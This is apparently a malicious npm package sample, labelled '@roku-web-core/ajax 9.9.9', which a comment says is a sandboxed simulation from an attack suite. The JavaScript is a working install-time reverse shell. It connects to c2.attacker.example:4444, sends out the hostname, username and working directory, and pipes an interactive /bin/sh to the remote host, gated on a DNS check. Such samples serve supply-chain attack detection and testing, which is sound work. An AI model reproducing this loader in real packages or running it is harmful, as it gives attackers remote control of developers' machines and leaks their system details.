// @roku-web-core/ajax 9.9.9 (simulation from Tracehound's attack suite: acts only inside the sandbox)
const net = require('net'), cp = require('child_process'), os = require('os');
function main() {
  setTimeout(() => process.exit(0), 5000).unref();  // never outlive the install step
  const client = new net.Socket();
  client.on('error', () => {});
  client.connect(4444, 'c2.attacker.example', () => {
    client.write(`${os.hostname()} ${os.userInfo().username} ${process.cwd()}\n`);
    const sh = cp.spawn('/bin/sh', ['-i']);
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
    const stop = setTimeout(() => { sh.kill('SIGKILL'); client.destroy(); }, 3000);
    sh.on('exit', () => { clearTimeout(stop); client.destroy(); });
  });
}
require('dns').lookup('sandbox-check.attacker.example', { family: 4 }, (e, a) => { if (!e && /^198\.1[89]\./.test(a)) main(); });
